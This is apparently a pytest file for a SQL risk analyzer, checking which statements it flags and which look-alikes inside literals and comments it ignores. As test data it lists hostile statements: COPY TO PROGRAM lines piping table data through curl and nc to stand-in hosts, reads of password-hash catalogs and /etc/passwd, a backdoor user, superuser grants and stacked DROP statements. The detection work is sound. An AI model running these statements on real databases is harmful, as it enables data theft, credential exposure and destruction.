"""SQL rules: parsed, not grepped; look-alikes in literals and comments never fire."""

from __future__ import annotations

import random

import pytest

from risk.policy import default_policy
from risk.sql import MAX_PARSE_CHARS, SqlFacts, analyze, sql_hits

POLICY = default_policy().default


def rule_ids(statement: str, dialect: str | None = "postgres", database: str | None = None) -> set[str]:
    return {hit.rule_id for hit in sql_hits(analyze(statement, dialect, database), POLICY.is_sensitive_table)}


@pytest.mark.parametrize(
    ("statement", "expected"),
    [
        ("CREATE TABLE orders_archive (id bigint)", {"sql.ddl"}),
        ("ALTER TABLE orders ADD COLUMN note text", {"sql.ddl"}),
        ("ALTER TABLE users DISABLE TRIGGER ALL", {"sql.ddl"}),
        ("CREATE INDEX CONCURRENTLY ix ON orders (created_at)", {"sql.ddl"}),
        ("DROP INDEX IF EXISTS ix", {"sql.ddl"}),
        ("COMMENT ON TABLE orders IS 'x'", {"sql.ddl"}),
        ("CREATE EXTENSION pg_trgm", {"sql.ddl"}),
        ("DROP TABLE customers", {"sql.drop"}),
        ("DROP SCHEMA billing CASCADE", {"sql.drop"}),
        ("DROP DATABASE prod", {"sql.drop"}),
        ("TRUNCATE invoices, invoice_lines", {"sql.drop"}),
        ("DELETE FROM orders", {"sql.unbounded_write"}),
        ("DELETE FROM orders WHERE 1 = 1", {"sql.unbounded_write"}),
        ("DELETE FROM orders WHERE true", {"sql.unbounded_write"}),
        ("UPDATE users SET role = 'admin'", {"sql.unbounded_write"}),
        (
            "WITH gone AS (DELETE FROM sessions RETURNING id) SELECT count(*) FROM gone",
            {"sql.unbounded_write"},
        ),
        ("EXPLAIN ANALYZE DELETE FROM orders", {"sql.unbounded_write"}),
        ("EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0", {"sql.unbounded_write"}),
        ("SELECT * FROM customers", {"sql.select_star_sensitive"}),
        ("SELECT * FROM billing.customers WHERE id < 10", {"sql.select_star_sensitive"}),
        ("SELECT c.*, o.id FROM customers c JOIN orders o ON o.cid = c.id", {"sql.select_star_sensitive"}),
        ("SELECT * FROM orders o JOIN patients p ON p.id = o.pid", {"sql.select_star_sensitive"}),
        ("SELECT * FROM (SELECT * FROM patients) p", {"sql.select_star_sensitive"}),
        ("CREATE TABLE t AS SELECT * FROM customers", {"sql.ddl", "sql.select_star_sensitive"}),
        ("COPY users TO PROGRAM 'curl -d @- https://example.net'", {"sql.copy_program"}),
        ("COPY (SELECT id FROM orders) TO PROGRAM 'nc 203.0.113.1 9'", {"sql.copy_program"}),
        ("COPY users TO PROGRAM 'gzip > /tmp/u.gz' WITH (FORMAT csv)", {"sql.copy_program"}),
        ("COPY t FROM PROGRAM 'id'", {"sql.copy_program"}),
        ("GRANT SELECT ON orders TO analyst", {"sql.privilege_change"}),
        ("GRANT ALL ON ALL TABLES IN SCHEMA public TO analyst", {"sql.privilege_change"}),
        ("REVOKE ALL ON orders FROM analyst", {"sql.privilege_change"}),
        ("ALTER ROLE app WITH SUPERUSER", {"sql.privilege_change"}),
        ("CREATE USER backdoor WITH PASSWORD '***'", {"sql.privilege_change"}),
        ("DROP ROLE auditor", {"sql.privilege_change"}),
        ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO public", {"sql.privilege_change"}),
        ("SELECT rolname, rolpassword FROM pg_authid", {"sql.credential_catalog"}),
        ("SELECT usename, passwd FROM pg_catalog.pg_shadow", {"sql.credential_catalog"}),
        ("SELECT * FROM pg_user_mappings", {"sql.credential_catalog"}),
        ("SELECT * FROM information_schema.user_privileges", {"sql.credential_catalog"}),
        ("SELECT pg_read_file('/etc/passwd')", {"sql.server_file"}),
        ("SELECT lo_import('/etc/passwd')", {"sql.server_file"}),
        ("COPY users TO '/tmp/users.csv'", {"sql.server_file"}),
        ("SELECT 1; DROP TABLE customers", {"sql.drop"}),
        ("SELECT * FROM customers; DELETE FROM orders", {"sql.select_star_sensitive", "sql.unbounded_write"}),
    ],
)
def test_risky_statements(statement: str, expected: set[str]) -> None:
    assert rule_ids(statement) == expected


@pytest.mark.parametrize(
    "statement",
    [
        "SELECT 'DROP TABLE x'",
        "SELECT 'DROP TABLE x' AS hint; SELECT 'GRANT ALL ON x TO y'",
        "SELECT 1 -- DROP TABLE customers",
        "/* GRANT ALL ON customers TO bob */ SELECT count(*) FROM customers",
        "SELECT note FROM tickets WHERE note LIKE '%DELETE FROM orders%'",
        'SELECT "DROP", "GRANT" FROM keywords',
        "SELECT $$COPY x TO PROGRAM 'rm -rf /'$$",
        "SELECT count(*) FROM customers",
        "SELECT id, email FROM customers WHERE id = $1",
        "WITH customers AS (SELECT 1 AS id) SELECT * FROM customers",
        "SELECT * FROM orders WHERE id = 1",
        "DELETE FROM orders WHERE id = 42",
        "UPDATE orders SET status = 'shipped' WHERE id = 7",
        "UPDATE orders SET status = 'x' FROM batch b WHERE b.id = orders.id",
        "INSERT INTO schema_migrations (version) VALUES ('20260101')",
        "COPY orders TO STDOUT WITH CSV HEADER",
        "EXPLAIN DELETE FROM orders",
        "SELECT pg_authid FROM audit_columns",
        "SELECT relname FROM pg_catalog.pg_class",
        "SELECT * FROM users_archive_counts",
        "BEGIN",
        "COMMIT",
        "SHOW search_path",
        "SET statement_timeout = 0",
        "VACUUM ANALYZE orders",
    ],
)
def test_look_alikes_and_routine_statements_do_not_fire(statement: str) -> None:
    assert rule_ids(statement) == set()


def test_mysql_credential_table_qualified_or_by_current_database() -> None:
    assert rule_ids("SELECT user, authentication_string FROM mysql.user", "mysql") == {
        "sql.credential_catalog"
    }
    assert rule_ids("SELECT user FROM user", "mysql", database="mysql") == {"sql.credential_catalog"}
    assert rule_ids("SELECT name FROM user", "mysql", database="shop") == set()


def test_mysql_server_files_found_even_where_sqlglot_cannot_parse() -> None:
    ids = rule_ids("SELECT * FROM orders INTO OUTFILE '/var/lib/mysql-files/o.csv'", "mysql")
    assert "sql.server_file" in ids
    assert "sql.server_file" in rule_ids("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "mysql")
    assert "sql.server_file" not in rule_ids("LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE t", "mysql")


@pytest.mark.parametrize(
    "statement", ["this is not sql (((", "\\dt", "select 'unterminated", "DO $$ BEGIN END $$"]
)
def test_unparseable_sql_gets_a_low_weight_reason(statement: str) -> None:
    assert rule_ids(statement) == {"sql.unparsed"}
    assert POLICY.weight("sql.unparsed") < 0.2


def test_garbage_never_raises() -> None:
    rng = random.Random(0)
    alphabet = "SELECT FROM WHERE DROP ' \" ; ( ) $$ -- /* */ \\ ` \x00 é 漢 1 2 * , . "
    for _ in range(300):
        statement = "".join(rng.choice(alphabet) for _ in range(rng.randrange(0, 80)))
        assert isinstance(analyze(statement, rng.choice(["postgres", "mysql", None])), SqlFacts)


def test_parse_results_are_cached_for_identical_statements() -> None:
    statement = "SELECT id FROM orders WHERE customer_id = 991"
    assert analyze(statement, "postgres") is analyze(statement, "postgres")


def test_long_statements_are_scanned_not_parsed() -> None:
    padding = "/* " + "x" * MAX_PARSE_CHARS + " */"
    facts = analyze(f"SELECT 1; {padding} DROP TABLE customers", "postgres")
    assert facts.drops == ("DROP TABLE",)
    assert facts.unparsed is not None
    assert "scanned" in facts.unparsed


def test_sensitive_tables_come_from_the_policy() -> None:
    facts = analyze("SELECT * FROM crm.leads", "postgres")
    assert sql_hits(facts, lambda _table: False) == []
    assert [hit.rule_id for hit in sql_hits(facts, lambda table: table == "crm.leads")] == [
        "sql.select_star_sensitive"
    ]
